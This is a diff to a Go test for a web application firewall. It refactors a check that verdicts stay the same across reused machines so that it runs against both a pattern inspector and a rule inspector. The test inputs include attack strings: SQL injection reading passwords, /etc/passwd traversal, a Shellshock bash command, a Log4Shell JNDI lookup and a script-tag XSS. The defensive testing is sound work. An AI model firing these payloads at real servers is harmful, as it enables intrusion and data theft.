@@ -17,7 +17,12 @@ func TestWhatAMachineRemembersChangesNoVerdict(t *testing.T) {
 	targets := []string{"/", "/index.html?page=2", "/search?q=union+of+workers", "/?id=1%27%20UNION%20SELECT%20password%20FROM%20users--", "/../../etc/passwd", "/?q=" + fmt.Sprintf("%0400d", 7)}
 	agents := []string{"", "Mozilla/5.0 (X11; Linux x86_64)", "sqlmap/1.7", "() { :; }; /bin/bash -c id", "${jndi:ldap://192.0.2.1/a}"}
 	referers := []string{"", "https://www.example.com/?q=%3Cb%3E", "https://www.example.com/<script>alert(1)</script>"}
-	set := content(t)
+	for name, inspect := range map[string]func(*event.Event, *waf.Machine) waf.Verdict{"patterns": content(t).Inspect, "rules": inspector(t).Inspect} {
+		t.Run(name, func(t *testing.T) { sameVerdicts(t, inspect, targets, agents, referers) })
+	}
+}
+
+func sameVerdicts(t *testing.T, inspect func(*event.Event, *waf.Machine) waf.Verdict, targets, agents, referers []string) {
 	used := waf.NewMachine()
 	attacks := 0
 	for range 3 {
@@ -29,7 +34,7 @@ func TestWhatAMachineRemembersChangesNoVerdict(t *testing.T) {
 						e.Set(event.HTTPURL, event.StringValue(target))
 						e.Set(event.HTTPUserAgent, event.StringValue(agent))
 						e.Set(event.HTTPReferer, event.StringValue(referer))
-						v := set.Inspect(e, m)
+						v := inspect(e, m)
 						return v, string(e.AppendRecord(nil))
 					}
 					want, wantEvent := ask(waf.NewMachine())
